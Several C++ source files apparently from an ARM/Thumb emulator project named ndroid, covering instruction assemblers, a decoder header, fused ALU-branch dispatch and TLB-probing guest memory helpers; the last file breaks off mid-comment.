/// (`cmp …; b<cond>`, `subs …; bne`, `add …; b`) end nearly every hot
/// block, and fusing the pair drops one full handler dispatch per replay.
/// On exit the PC holds the branch target or the fall-through address, and
/// the flags are architecturally up to date (later code may read them; a
/// flagless op leaves them untouched, so a conditional branch after one
/// still reads the older flags — same as sequential execution).
using FusedPairFn = void (*)(const Insn& alu, const Insn& br, CPUState&);

/// Picks the fused pair handler for a block-terminating ALU + direct-branch
/// sequence, or nullptr when the ALU op is outside the fused shapes (PC or
/// shifted operands, conditional execution, unsupported flag shapes) or
/// the branch links. Called once per block at translation time.
[[nodiscard]] FusedPairFn select_fused_pair(const Insn& alu, const Insn& br);

}  // namespace ndroid::arm
