#include "arm/thumb_assembler.h"

#include "arm/cpu_state.h"

namespace ndroid::arm {

void ThumbAssembler::emit(u16 hw) {
  buf_.push_back(static_cast<u8>(hw));
  buf_.push_back(static_cast<u8>(hw >> 8));
}

void ThumbAssembler::movs_imm(Reg rd, u8 imm) {
  emit(static_cast<u16>(0x2000 | (rd.index << 8) | imm));
}
void ThumbAssembler::adds_imm8(Reg rdn, u8 imm) {
  emit(static_cast<u16>(0x3000 | (rdn.index << 8) | imm));
}
void ThumbAssembler::subs_imm8(Reg rdn, u8 imm) {
  emit(static_cast<u16>(0x3800 | (rdn.index << 8) | imm));
}
void ThumbAssembler::adds_imm3(Reg rd, Reg rn, u8 imm) {
  emit(static_cast<u16>(0x1C00 | ((imm & 7) << 6) | (rn.index << 3) |
                        rd.index));
}
void ThumbAssembler::subs_imm3(Reg rd, Reg rn, u8 imm) {
  emit(static_cast<u16>(0x1E00 | ((imm & 7) << 6) | (rn.index << 3) |
                        rd.index));
}
void ThumbAssembler::adds(Reg rd, Reg rn, Reg rm) {
  emit(static_cast<u16>(0x1800 | (rm.index << 6) | (rn.index << 3) |
                        rd.index));
}
void ThumbAssembler::subs(Reg rd, Reg rn, Reg rm) {
  emit(static_cast<u16>(0x1A00 | (rm.index << 6) | (rn.index << 3) |
                        rd.index));
}
void ThumbAssembler::lsls(Reg rd, Reg rm, u8 imm) {
  emit(static_cast<u16>(0x0000 | ((imm & 31) << 6) | (rm.index << 3) |
                        rd.index));
}
void ThumbAssembler::lsrs(Reg rd, Reg rm, u8 imm) {
  emit(static_cast<u16>(0x0800 | ((imm & 31) << 6) | (rm.index << 3) |
                        rd.index));
}
void ThumbAssembler::asrs(Reg rd, Reg rm, u8 imm) {
  emit(static_cast<u16>(0x1000 | ((imm & 31) << 6) | (rm.index << 3) |
                        rd.index));
}
void ThumbAssembler::cmp_imm(Reg rn, u8 imm) {
  emit(static_cast<u16>(0x2800 | (rn.index << 8) | imm));
}

namespace {
constexpr u16 alu(u8 opcode, Reg rm, Reg rdn) {
  return static_cast<u16>(0x4000 | (opcode << 6) | (rm.index << 3) |
                          rdn.index);
}
}  // namespace

void ThumbAssembler::ands(Reg rdn, Reg rm) { emit(alu(0x0, rm, rdn)); }
void ThumbAssembler::eors(Reg rdn, Reg rm) { emit(alu(0x1, rm, rdn)); }
void ThumbAssembler::orrs(Reg rdn, Reg rm) { emit(alu(0xC, rm, rdn)); }
void ThumbAssembler::bics(Reg rdn, Reg rm) { emit(alu(0xE, rm, rdn)); }
void ThumbAssembler::mvns(Reg rd, Reg rm) { emit(alu(0xF, rm, rd)); }
void ThumbAssembler::muls(Reg rdn, Reg rm) { emit(alu(0xD, rm, rdn)); }
void ThumbAssembler::tst(Reg rn, Reg rm) { emit(alu(0x8, rm, rn)); }
void ThumbAssembler::cmp(Reg rn, Reg rm) { emit(alu(0xA, rm, rn)); }
void ThumbAssembler::negs(Reg rd, Reg rm) { emit(alu(0x9, rm, rd)); }

void ThumbAssembler::mov(Reg rd, Reg rm) {
  emit(static_cast<u16>(0x4600 | ((rd.index & 8) ? 0x80 : 0) |
                        (rm.index << 3) | (rd.index & 7)));
}
void ThumbAssembler::add(Reg rdn, Reg rm) {
  emit(static_cast<u16>(0x4400 | ((rdn.index & 8) ? 0x80 : 0) |
                        (rm.index << 3) | (rdn.index & 7)));
}
void ThumbAssembler::bx(Reg rm) {
  emit(static_cast<u16>(0x4700 | (rm.index << 3)));
}
void ThumbAssembler::blx(Reg rm) {
  emit(static_cast<u16>(0x4780 | (rm.index << 3)));
}

void ThumbAssembler::ldr(Reg rt, Reg rn, u8 offset) {
  emit(static_cast<u16>(0x6800 | ((offset / 4) << 6) | (rn.index << 3) |
                        rt.index));
}
void ThumbAssembler::str(Reg rt, Reg rn, u8 offset) {
  emit(static_cast<u16>(0x6000 | ((offset / 4) << 6) | (rn.index << 3) |
                        rt.index));
}
void ThumbAssembler::ldrb(Reg rt, Reg rn, u8 offset) {
  emit(static_cast<u16>(0x7800 | ((offset & 31) << 6) | (rn.index << 3) |
                        rt.index));
}
void ThumbAssembler::strb(Reg rt, Reg rn, u8 offset) {
  emit(static_cast<u16>(0x7000 | ((offset & 31) << 6) | (rn.index << 3) |
                        rt.index));
}
void ThumbAssembler::ldrh(Reg rt, Reg rn, u8 offset) {
  emit(static_cast<u16>(0x8800 | ((offset / 2) << 6) | (rn.index << 3) |
                        rt.index));
}
void ThumbAssembler::strh(Reg rt, Reg rn, u8 offset) {
  emit(static_cast<u16>(0x8000 | ((offset / 2) << 6) | (rn.index << 3) |
                        rt.index));
}
void ThumbAssembler::ldr_reg(Reg rt, Reg rn, Reg rm) {
  emit(static_cast<u16>(0x5800 | (rm.index << 6) | (rn.index << 3) |
                        rt.index));
}
void ThumbAssembler::str_reg(Reg rt, Reg rn, Reg rm) {
  emit(static_cast<u16>(0x5000 | (rm.index << 6) | (rn.index << 3) |
                        rt.index));
}
void ThumbAssembler::ldrb_reg(Reg rt, Reg rn, Reg rm) {
  emit(static_cast<u16>(0x5C00 | (rm.index << 6) | (rn.index << 3) |
                        rt.index));
}
void ThumbAssembler::strb_reg(Reg rt, Reg rn, Reg rm) {
  emit(static_cast<u16>(0x5400 | (rm.index << 6) | (rn.index << 3) |
                        rt.index));
}
void ThumbAssembler::ldr_pc(Reg rt, u8 word_offset) {
  emit(static_cast<u16>(0x4800 | (rt.index << 8) | word_offset));
}

void ThumbAssembler::ldr_sp(Reg rt, u16 offset) {
  emit(static_cast<u16>(0x9800 | (rt.index << 8) | (offset / 4)));
}

void ThumbAssembler::str_sp(Reg rt, u16 offset) {
  emit(static_cast<u16>(0x9000 | (rt.index << 8) | (offset / 4)));
}

void ThumbAssembler::push(std::initializer_list<Reg> regs) {
  u16 w = 0xB400;
  for (Reg r : regs) {
    if (r.index == kRegLR) {
      w |= 0x100;
    } else {
      w |= static_cast<u16>(1u << r.index);
    }
  }
  emit(w);
}

void ThumbAssembler::pop(std::initializer_list<Reg> regs) {
  u16 w = 0xBC00;
  for (Reg r : regs) {
    if (r.index == kRegPC) {
      w |= 0x100;
    } else {
      w |= static_cast<u16>(1u << r.index);
    }
  }
  emit(w);
}

void ThumbAssembler::add_sp(u16 imm) {
  emit(static_cast<u16>(0xB000 | (imm / 4)));
}
void ThumbAssembler::sub_sp(u16 imm) {
  emit(static_cast<u16>(0xB080 | (imm / 4)));
}

void ThumbAssembler::sxth(Reg rd, Reg rm) {
  emit(static_cast<u16>(0xB200 | (rm.index << 3) | rd.index));
}
void ThumbAssembler::sxtb(Reg rd, Reg rm) {
  emit(static_cast<u16>(0xB240 | (rm.index << 3) | rd.index));
}
void ThumbAssembler::uxth(Reg rd, Reg rm) {
  emit(static_cast<u16>(0xB280 | (rm.index << 3) | rd.index));
}
void ThumbAssembler::uxtb(Reg rd, Reg rm) {
  emit(static_cast<u16>(0xB2C0 | (rm.index << 3) | rd.index));
}

void ThumbAssembler::b(ThumbLabel& label, Cond cond) {
  const bool is_cond = cond != Cond::kAL;
  if (label.bound_offset < 0) {
    label.fixups.emplace_back(static_cast<u32>(buf_.size()), is_cond);
    emit(is_cond ? static_cast<u16>(0xD000 | (static_cast<u16>(cond) << 8))
                 : static_cast<u16>(0xE000));
    return;
  }
  const i32 delta = label.bound_offset - static_cast<i32>(buf_.size()) - 4;
  if (is_cond) {
    emit(static_cast<u16>(0xD000 | (static_cast<u16>(cond) << 8) |
                          ((delta / 2) & 0xFF)));
  } else {
    emit(static_cast<u16>(0xE000 | ((delta / 2) & 0x7FF)));
  }
}

void ThumbAssembler::bl(ThumbLabel& label) {
  if (label.bound_offset < 0) {
    label.fixups.emplace_back(static_cast<u32>(buf_.size()), false);
    emit(0xF000);
    emit(0xF800);
    return;
  }
  const i32 delta = label.bound_offset - static_cast<i32>(buf_.size()) - 4;
  emit(static_cast<u16>(0xF000 | ((delta >> 12) & 0x7FF)));
  emit(static_cast<u16>(0xF800 | ((delta >> 1) & 0x7FF)));
}

void ThumbAssembler::bind(ThumbLabel& label) {
  if (label.bound_offset >= 0) throw GuestFault("thumb label bound twice");
  label.bound_offset = static_cast<i32>(buf_.size());
  for (auto [site, is_cond] : label.fixups) {
    u16 hw = static_cast<u16>(buf_[site] | (buf_[site + 1] << 8));
    const i32 delta = label.bound_offset - static_cast<i32>(site) - 4;
    if ((hw & 0xF800) == 0xF000) {  // BL pair
      hw |= static_cast<u16>((delta >> 12) & 0x7FF);
      u16 hw2 = static_cast<u16>(buf_[site + 2] | (buf_[site + 3] << 8));
      hw2 |= static_cast<u16>((delta >> 1) & 0x7FF);
      buf_[site + 2] = static_cast<u8>(hw2);
      buf_[site + 3] = static_cast<u8>(hw2 >> 8);
    } else if (is_cond) {
      hw |= static_cast<u16>((delta / 2) & 0xFF);
    } else {
      hw |= static_cast<u16>((delta / 2) & 0x7FF);
    }
    buf_[site] = static_cast<u8>(hw);
    buf_[site + 1] = static_cast<u8>(hw >> 8);
  }
  label.fixups.clear();
}

void ThumbAssembler::tbb(Reg rn, Reg rm) {
  emit(static_cast<u16>(0xE8D0 | rn.index));
  emit(static_cast<u16>(0xF000 | rm.index));
}

void ThumbAssembler::tbh(Reg rn, Reg rm) {
  emit(static_cast<u16>(0xE8D0 | rn.index));
  emit(static_cast<u16>(0xF010 | rm.index));
}

void ThumbAssembler::align(u32 alignment) {
  while ((base_ + buf_.size()) % alignment != 0) buf_.push_back(0);
}

void ThumbAssembler::svc(u8 number) {
  emit(static_cast<u16>(0xDF00 | number));
}
void ThumbAssembler::nop() { emit(0xBF00); }

void ThumbAssembler::it(Cond firstcond, const char* suffixes) {
  // ITSTATE mask: one bit per extra instruction (firstcond's LSB for T, its
  // complement for E), then a terminating 1, left-aligned into four bits.
  const u8 fc = static_cast<u8>(firstcond);
  u8 mask = 0;
  int extra = 0;
  for (const char* s = suffixes; *s != '\0'; ++s, ++extra) {
    const u8 then_bit = fc & 1u;
    mask = static_cast<u8>(
        (mask << 1) | ((*s == 'T' || *s == 't') ? then_bit : then_bit ^ 1u));
  }
  mask = static_cast<u8>(((mask << 1) | 1u) << (3 - extra));
  emit(static_cast<u16>(0xBF00 | (fc << 4) | mask));
}

void ThumbAssembler::load_imm32(Reg rd, u32 imm) {
  // Build byte by byte: movs rd, #b3; lsls; adds #b2; ... Constant-length
  // sequences keep branch offsets stable.
  movs_imm(rd, static_cast<u8>(imm >> 24));
  lsls(rd, rd, 8);
  adds_imm8(rd, static_cast<u8>(imm >> 16));
  lsls(rd, rd, 8);
  adds_imm8(rd, static_cast<u8>(imm >> 8));
  lsls(rd, rd, 8);
  adds_imm8(rd, static_cast<u8>(imm));
}

void ThumbAssembler::call(GuestAddr target, Reg scratch) {
  load_imm32(scratch, target);
  blx(scratch);
}

}  // namespace ndroid::arm
