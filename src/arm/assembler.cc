#include "arm/assembler.h"

#include <bit>

namespace ndroid::arm {

namespace {
constexpr u32 kCondAL = 0xEu << 28;

constexpr u32 ror32(u32 v, u32 n) {
  n &= 31;
  return n == 0 ? v : (v >> n) | (v << (32 - n));
}
}  // namespace

void Assembler::emit(u32 word) {
  buf_.push_back(static_cast<u8>(word));
  buf_.push_back(static_cast<u8>(word >> 8));
  buf_.push_back(static_cast<u8>(word >> 16));
  buf_.push_back(static_cast<u8>(word >> 24));
}

void Assembler::word(u32 value) { emit(value); }

GuestAddr Assembler::cstring(std::string_view s) {
  const GuestAddr addr = here();
  for (char c : s) buf_.push_back(static_cast<u8>(c));
  buf_.push_back(0);
  align(4);
  return addr;
}

void Assembler::align(u32 alignment) {
  while (buf_.size() % alignment != 0) buf_.push_back(0);
}

bool Assembler::encodable_imm(u32 imm) {
  for (u32 rot = 0; rot < 32; rot += 2) {
    if ((ror32(imm, 32 - rot) & ~0xFFu) == 0) return true;
  }
  return false;
}

u32 Assembler::encode_imm(u32 imm) {
  for (u32 rot = 0; rot < 32; rot += 2) {
    const u32 rotated = ror32(imm, 32 - rot);
    if ((rotated & ~0xFFu) == 0) return ((rot / 2) << 8) | rotated;
  }
  throw GuestFault("immediate not encodable: " + std::to_string(imm));
}

void Assembler::dp(u8 opcode, Reg rd, Reg rn, Reg rm, bool s, ShiftType shift,
                   u8 amount, Cond cond) {
  u32 w = (static_cast<u32>(cond) << 28) | (static_cast<u32>(opcode) << 21) |
          (s ? 1u << 20 : 0) | (static_cast<u32>(rn.index) << 16) |
          (static_cast<u32>(rd.index) << 12) | rm.index;
  w |= (static_cast<u32>(shift) << 5) | (static_cast<u32>(amount & 31) << 7);
  emit(w);
}

void Assembler::dp_imm(u8 opcode, Reg rd, Reg rn, u32 imm, bool s, Cond cond) {
  const u32 enc = encode_imm(imm);
  emit((static_cast<u32>(cond) << 28) | (1u << 25) |
       (static_cast<u32>(opcode) << 21) | (s ? 1u << 20 : 0) |
       (static_cast<u32>(rn.index) << 16) |
       (static_cast<u32>(rd.index) << 12) | enc);
}

void Assembler::and_(Reg rd, Reg rn, Reg rm, bool s) { dp(0x0, rd, rn, rm, s); }
void Assembler::eor(Reg rd, Reg rn, Reg rm, bool s) { dp(0x1, rd, rn, rm, s); }
void Assembler::sub(Reg rd, Reg rn, Reg rm, bool s) { dp(0x2, rd, rn, rm, s); }
void Assembler::rsb(Reg rd, Reg rn, Reg rm, bool s) { dp(0x3, rd, rn, rm, s); }
void Assembler::add(Reg rd, Reg rn, Reg rm, bool s) { dp(0x4, rd, rn, rm, s); }
void Assembler::adc(Reg rd, Reg rn, Reg rm, bool s) { dp(0x5, rd, rn, rm, s); }
void Assembler::sbc(Reg rd, Reg rn, Reg rm, bool s) { dp(0x6, rd, rn, rm, s); }
void Assembler::orr(Reg rd, Reg rn, Reg rm, bool s) { dp(0xC, rd, rn, rm, s); }
void Assembler::bic(Reg rd, Reg rn, Reg rm, bool s) { dp(0xE, rd, rn, rm, s); }
void Assembler::mov(Reg rd, Reg rm) { dp(0xD, rd, R(0), rm, false); }
void Assembler::mvn(Reg rd, Reg rm) { dp(0xF, rd, R(0), rm, false); }
void Assembler::lsl(Reg rd, Reg rm, u8 amount) {
  dp(0xD, rd, R(0), rm, false, ShiftType::kLSL, amount);
}
void Assembler::lsr(Reg rd, Reg rm, u8 amount) {
  dp(0xD, rd, R(0), rm, false, ShiftType::kLSR, amount);
}
void Assembler::asr(Reg rd, Reg rm, u8 amount) {
  dp(0xD, rd, R(0), rm, false, ShiftType::kASR, amount);
}
void Assembler::tst(Reg rn, Reg rm) { dp(0x8, R(0), rn, rm, true); }
void Assembler::cmp(Reg rn, Reg rm) { dp(0xA, R(0), rn, rm, true); }

void Assembler::and_imm(Reg rd, Reg rn, u32 imm) { dp_imm(0x0, rd, rn, imm, false); }
void Assembler::sub_imm(Reg rd, Reg rn, u32 imm, bool s) { dp_imm(0x2, rd, rn, imm, s); }
void Assembler::add_imm(Reg rd, Reg rn, u32 imm, bool s) { dp_imm(0x4, rd, rn, imm, s); }
void Assembler::orr_imm(Reg rd, Reg rn, u32 imm) { dp_imm(0xC, rd, rn, imm, false); }
void Assembler::eor_imm(Reg rd, Reg rn, u32 imm) { dp_imm(0x1, rd, rn, imm, false); }
void Assembler::mov_imm(Reg rd, u32 imm, Cond cond) {
  dp_imm(0xD, rd, R(0), imm, false, cond);
}
void Assembler::cmp_imm(Reg rn, u32 imm) { dp_imm(0xA, R(0), rn, imm, true); }

void Assembler::movw(Reg rd, u16 imm) {
  emit(kCondAL | 0x03000000u | (static_cast<u32>(imm >> 12) << 16) |
       (static_cast<u32>(rd.index) << 12) | (imm & 0xFFFu));
}

void Assembler::movt(Reg rd, u16 imm) {
  emit(kCondAL | 0x03400000u | (static_cast<u32>(imm >> 12) << 16) |
       (static_cast<u32>(rd.index) << 12) | (imm & 0xFFFu));
}

void Assembler::mov_imm32(Reg rd, u32 imm) {
  if (encodable_imm(imm)) {
    mov_imm(rd, imm);
    return;
  }
  movw(rd, static_cast<u16>(imm));
  if ((imm >> 16) != 0) movt(rd, static_cast<u16>(imm >> 16));
}

void Assembler::mul(Reg rd, Reg rn, Reg rm, bool s) {
  emit(kCondAL | (s ? 1u << 20 : 0) | (static_cast<u32>(rd.index) << 16) |
       (static_cast<u32>(rn.index) << 8) | 0x90u | rm.index);
}

void Assembler::mla(Reg rd, Reg rn, Reg rm, Reg ra) {
  emit(kCondAL | (1u << 21) | (static_cast<u32>(rd.index) << 16) |
       (static_cast<u32>(ra.index) << 12) | (static_cast<u32>(rn.index) << 8) |
       0x90u | rm.index);
}

void Assembler::umull(Reg rdlo, Reg rdhi, Reg rn, Reg rm) {
  emit(kCondAL | 0x00800090u | (static_cast<u32>(rdhi.index) << 16) |
       (static_cast<u32>(rdlo.index) << 12) |
       (static_cast<u32>(rn.index) << 8) | rm.index);
}

void Assembler::smull(Reg rdlo, Reg rdhi, Reg rn, Reg rm) {
  emit(kCondAL | 0x00C00090u | (static_cast<u32>(rdhi.index) << 16) |
       (static_cast<u32>(rdlo.index) << 12) |
       (static_cast<u32>(rn.index) << 8) | rm.index);
}

void Assembler::sdiv(Reg rd, Reg rn, Reg rm) {
  emit(kCondAL | 0x0710F010u | (static_cast<u32>(rd.index) << 16) |
       (static_cast<u32>(rm.index) << 8) | rn.index);
}

void Assembler::udiv(Reg rd, Reg rn, Reg rm) {
  emit(kCondAL | 0x0730F010u | (static_cast<u32>(rd.index) << 16) |
       (static_cast<u32>(rm.index) << 8) | rn.index);
}

void Assembler::clz(Reg rd, Reg rm) {
  emit(kCondAL | 0x016F0F10u | (static_cast<u32>(rd.index) << 12) | rm.index);
}

void Assembler::sxtb(Reg rd, Reg rm) {
  emit(kCondAL | 0x06AF0070u | (static_cast<u32>(rd.index) << 12) | rm.index);
}
void Assembler::sxth(Reg rd, Reg rm) {
  emit(kCondAL | 0x06BF0070u | (static_cast<u32>(rd.index) << 12) | rm.index);
}
void Assembler::uxtb(Reg rd, Reg rm) {
  emit(kCondAL | 0x06EF0070u | (static_cast<u32>(rd.index) << 12) | rm.index);
}
void Assembler::uxth(Reg rd, Reg rm) {
  emit(kCondAL | 0x06FF0070u | (static_cast<u32>(rd.index) << 12) | rm.index);
}

void Assembler::mem(bool load, bool byte, Reg rt, Reg rn, i32 offset, bool pre,
                    bool writeback) {
  const bool up = offset >= 0;
  const u32 mag = static_cast<u32>(up ? offset : -offset);
  if (mag > 0xFFF) throw GuestFault("ldr/str offset out of range");
  emit(kCondAL | (1u << 26) | (pre ? 1u << 24 : 0) | (up ? 1u << 23 : 0) |
       (byte ? 1u << 22 : 0) | (writeback && pre ? 1u << 21 : 0) |
       (load ? 1u << 20 : 0) | (static_cast<u32>(rn.index) << 16) |
       (static_cast<u32>(rt.index) << 12) | mag);
}

void Assembler::mem_h(Op op, Reg rt, Reg rn, i32 offset) {
  const bool up = offset >= 0;
  const u32 mag = static_cast<u32>(up ? offset : -offset);
  if (mag > 0xFF) throw GuestFault("ldrh/strh offset out of range");
  const bool load = op != Op::kStrh;
  u32 sh = 1;  // H
  if (op == Op::kLdrsb) sh = 2;
  if (op == Op::kLdrsh) sh = 3;
  emit(kCondAL | (1u << 24) | (up ? 1u << 23 : 0) | (1u << 22) |
       (load ? 1u << 20 : 0) | (static_cast<u32>(rn.index) << 16) |
       (static_cast<u32>(rt.index) << 12) | ((mag >> 4) << 8) | (1u << 7) |
       (sh << 5) | (1u << 4) | (mag & 0xF));
}

void Assembler::ldr(Reg rt, Reg rn, i32 offset) { mem(true, false, rt, rn, offset, true, false); }
void Assembler::str(Reg rt, Reg rn, i32 offset) { mem(false, false, rt, rn, offset, true, false); }
void Assembler::ldrb(Reg rt, Reg rn, i32 offset) { mem(true, true, rt, rn, offset, true, false); }
void Assembler::strb(Reg rt, Reg rn, i32 offset) { mem(false, true, rt, rn, offset, true, false); }
void Assembler::ldrh(Reg rt, Reg rn, i32 offset) { mem_h(Op::kLdrh, rt, rn, offset); }
void Assembler::strh(Reg rt, Reg rn, i32 offset) { mem_h(Op::kStrh, rt, rn, offset); }
void Assembler::ldrsb(Reg rt, Reg rn, i32 offset) { mem_h(Op::kLdrsb, rt, rn, offset); }
void Assembler::ldrsh(Reg rt, Reg rn, i32 offset) { mem_h(Op::kLdrsh, rt, rn, offset); }

void Assembler::ldr_reg(Reg rt, Reg rn, Reg rm) {
  emit(kCondAL | (3u << 25) | (1u << 24) | (1u << 23) | (1u << 20) |
       (static_cast<u32>(rn.index) << 16) | (static_cast<u32>(rt.index) << 12) |
       rm.index);
}

void Assembler::str_reg(Reg rt, Reg rn, Reg rm) {
  emit(kCondAL | (3u << 25) | (1u << 24) | (1u << 23) |
       (static_cast<u32>(rn.index) << 16) | (static_cast<u32>(rt.index) << 12) |
       rm.index);
}

void Assembler::ldrb_reg(Reg rt, Reg rn, Reg rm) {
  emit(kCondAL | (3u << 25) | (1u << 24) | (1u << 23) | (1u << 22) |
       (1u << 20) | (static_cast<u32>(rn.index) << 16) |
       (static_cast<u32>(rt.index) << 12) | rm.index);
}

void Assembler::strb_reg(Reg rt, Reg rn, Reg rm) {
  emit(kCondAL | (3u << 25) | (1u << 24) | (1u << 23) | (1u << 22) |
       (static_cast<u32>(rn.index) << 16) | (static_cast<u32>(rt.index) << 12) |
       rm.index);
}

void Assembler::ldrb_pre(Reg rt, Reg rn, i32 offset) { mem(true, true, rt, rn, offset, true, true); }
void Assembler::strb_pre(Reg rt, Reg rn, i32 offset) { mem(false, true, rt, rn, offset, true, true); }
void Assembler::ldr_post(Reg rt, Reg rn, i32 offset) { mem(true, false, rt, rn, offset, false, true); }
void Assembler::str_post(Reg rt, Reg rn, i32 offset) { mem(false, false, rt, rn, offset, false, true); }
void Assembler::ldrb_post(Reg rt, Reg rn, i32 offset) { mem(true, true, rt, rn, offset, false, true); }
void Assembler::strb_post(Reg rt, Reg rn, i32 offset) { mem(false, true, rt, rn, offset, false, true); }

void Assembler::push(std::initializer_list<Reg> regs) {
  u16 list = 0;
  for (Reg r : regs) list |= static_cast<u16>(1u << r.index);
  // STMDB sp!, {...}
  emit(kCondAL | (4u << 25) | (1u << 24) | (1u << 21) | (13u << 16) | list);
}

void Assembler::pop(std::initializer_list<Reg> regs) {
  u16 list = 0;
  for (Reg r : regs) list |= static_cast<u16>(1u << r.index);
  // LDMIA sp!, {...}
  emit(kCondAL | (4u << 25) | (1u << 23) | (1u << 21) | (1u << 20) |
       (13u << 16) | list);
}

void Assembler::ldm_ia(Reg rn, u16 reglist, bool writeback) {
  emit(kCondAL | (4u << 25) | (1u << 23) | (writeback ? 1u << 21 : 0) |
       (1u << 20) | (static_cast<u32>(rn.index) << 16) | reglist);
}

void Assembler::stm_ia(Reg rn, u16 reglist, bool writeback) {
  emit(kCondAL | (4u << 25) | (1u << 23) | (writeback ? 1u << 21 : 0) |
       (static_cast<u32>(rn.index) << 16) | reglist);
}

void Assembler::b(Label& label, Cond cond) {
  if (label.bound_offset >= 0) {
    const i32 delta =
        label.bound_offset - static_cast<i32>(buf_.size()) - 8;
    emit((static_cast<u32>(cond) << 28) | (5u << 25) |
         ((static_cast<u32>(delta) >> 2) & 0xFFFFFFu));
  } else {
    label.fixups.push_back(static_cast<u32>(buf_.size()));
    emit((static_cast<u32>(cond) << 28) | (5u << 25));
  }
}

void Assembler::bl(Label& label) {
  if (label.bound_offset >= 0) {
    const i32 delta = label.bound_offset - static_cast<i32>(buf_.size()) - 8;
    emit(kCondAL | (5u << 25) | (1u << 24) |
         ((static_cast<u32>(delta) >> 2) & 0xFFFFFFu));
  } else {
    label.fixups.push_back(static_cast<u32>(buf_.size()));
    emit(kCondAL | (5u << 25) | (1u << 24));
  }
}

void Assembler::b_abs(GuestAddr target, Cond cond) {
  const i32 delta =
      static_cast<i32>(target) - static_cast<i32>(here()) - 8;
  emit((static_cast<u32>(cond) << 28) | (5u << 25) |
       ((static_cast<u32>(delta) >> 2) & 0xFFFFFFu));
}

void Assembler::bl_abs(GuestAddr target) {
  const i32 delta = static_cast<i32>(target) - static_cast<i32>(here()) - 8;
  emit(kCondAL | (5u << 25) | (1u << 24) |
       ((static_cast<u32>(delta) >> 2) & 0xFFFFFFu));
}

void Assembler::bx(Reg rm) { emit(kCondAL | 0x012FFF10u | rm.index); }
void Assembler::blx(Reg rm) { emit(kCondAL | 0x012FFF30u | rm.index); }

void Assembler::call(GuestAddr target) {
  mov_imm32(IP, target);
  blx(IP);
}

void Assembler::svc(u32 number) {
  emit(kCondAL | (0xFu << 24) | (number & 0xFFFFFFu));
}

void Assembler::nop() { mov(R(0), R(0)); }
void Assembler::ret() { bx(LR); }

void Assembler::bind(Label& label) {
  if (label.bound_offset >= 0) throw GuestFault("label bound twice");
  label.bound_offset = static_cast<i32>(buf_.size());
  for (u32 site : label.fixups) {
    u32 w = static_cast<u32>(buf_[site]) | (static_cast<u32>(buf_[site + 1]) << 8) |
            (static_cast<u32>(buf_[site + 2]) << 16) |
            (static_cast<u32>(buf_[site + 3]) << 24);
    const i32 delta = label.bound_offset - static_cast<i32>(site) - 8;
    w |= (static_cast<u32>(delta) >> 2) & 0xFFFFFFu;
    buf_[site] = static_cast<u8>(w);
    buf_[site + 1] = static_cast<u8>(w >> 8);
    buf_[site + 2] = static_cast<u8>(w >> 16);
    buf_[site + 3] = static_cast<u8>(w >> 24);
  }
  label.fixups.clear();
}

std::vector<u8> Assembler::finish() {
  align(4);
  return std::move(buf_);
}

}  // namespace ndroid::arm
