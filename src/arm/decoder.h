// ARM and Thumb instruction decoders.
//
// Real ARMv7 encodings for a representative subset: the full data-processing
// group with shifter operands, multiplies (including long forms and v7
// divide), wide moves, all byte/half/word load-store addressing modes,
// LDM/STM/PUSH/POP, branches (B/BL/BX/BLX), SVC, and the common Thumb-16
// formats plus the Thumb BL pair. The paper's NDroid manually classified all
// 148 ARM / 73 Thumb instructions and handles the 101 / 55 that affect taint
// propagation (§V-C); this subset covers the same taint-relevant classes
// (Table V) end to end.
#pragma once

#include "arm/insn.h"

namespace ndroid::arm {

/// Decodes one 32-bit ARM instruction. Undecodable -> Op::kUndefined.
[[nodiscard]] Insn decode_arm(u32 word);

/// Decodes one Thumb instruction. `hw2` is the following halfword, consumed
/// only by 32-bit encodings (the BL/BLX pair and TBB/TBH table branches);
/// `insn.length` reports how many bytes were consumed (2 or 4).
[[nodiscard]] Insn decode_thumb(u16 hw, u16 hw2);

/// True when `hw` is the first halfword of a 32-bit Thumb-2 encoding
/// (top-five bits 0b11101/0b11110/0b11111). Decode caches must key 16-bit
/// encodings on `hw` alone — including the following halfword would make
/// the same instruction at different addresses miss.
[[nodiscard]] inline bool is_thumb32(u16 hw) { return (hw >> 11) >= 0x1D; }

}  // namespace ndroid::arm
