// Shared micro-op memory kernels: inline TLB-probing scalar access plus the
// dense LDM/STM block-transfer forms. threaded.cc's computed-goto bodies and
// jit.cc's slow-path callouts both build on these, so the two tiers keep
// bit-identical memory semantics by construction.
//
// A read/write probe hit is one bounds test, one tag compare, and a host
// memcpy; the miss path is the ordinary read*/write* call (which refills the
// TLB and, for writes, runs the write-watch). st_* returns true on a probe
// hit: the write TLB never caches watched pages, so a hit store provably
// cannot have flipped tb.dead and the caller skips the self-modification
// check entirely.
#pragma once

#include <cstring>

#include "arm/executor.h"
#include "mem/address_space.h"

namespace ndroid::arm {

inline u32 ld_u32(mem::AddressSpace& m, GuestAddr a) {
  const u8* h = m.tlb_probe_read(a, 4);
  if (h != nullptr) [[likely]] {
    u32 v;
    std::memcpy(&v, h, 4);
    return v;
  }
  return m.read32(a);
}
inline u32 ld_u16(mem::AddressSpace& m, GuestAddr a) {
  const u8* h = m.tlb_probe_read(a, 2);
  if (h != nullptr) [[likely]] {
    u16 v;
    std::memcpy(&v, h, 2);
    return v;
  }
  return m.read16(a);
}
inline u32 ld_u8(mem::AddressSpace& m, GuestAddr a) {
  const u8* h = m.tlb_probe_read(a, 1);
  if (h != nullptr) [[likely]] return *h;
  return m.read8(a);
}
inline u32 ld_s16(mem::AddressSpace& m, GuestAddr a) {
  return static_cast<u32>(static_cast<i32>(static_cast<i16>(ld_u16(m, a))));
}
inline u32 ld_s8(mem::AddressSpace& m, GuestAddr a) {
  return static_cast<u32>(static_cast<i32>(static_cast<i8>(ld_u8(m, a))));
}
inline bool st_u32(mem::AddressSpace& m, GuestAddr a, u32 v) {
  u8* h = m.tlb_probe_write(a, 4);
  if (h != nullptr) [[likely]] {
    std::memcpy(h, &v, 4);
    return true;
  }
  m.write32(a, v);
  return false;
}
inline bool st_u16(mem::AddressSpace& m, GuestAddr a, u32 v) {
  u8* h = m.tlb_probe_write(a, 2);
  if (h != nullptr) [[likely]] {
    const u16 t = static_cast<u16>(v);
    std::memcpy(h, &t, 2);
    return true;
  }
  m.write16(a, static_cast<u16>(v));
  return false;
}
inline bool st_u8(mem::AddressSpace& m, GuestAddr a, u32 v) {
  u8* h = m.tlb_probe_write(a, 1);
  if (h != nullptr) [[likely]] {
    *h = static_cast<u8>(v);
    return true;
  }
  m.write8(a, static_cast<u8>(v));
  return false;
}

// Dense STM (push-prologue shape). Emission guarantees: unconditional,
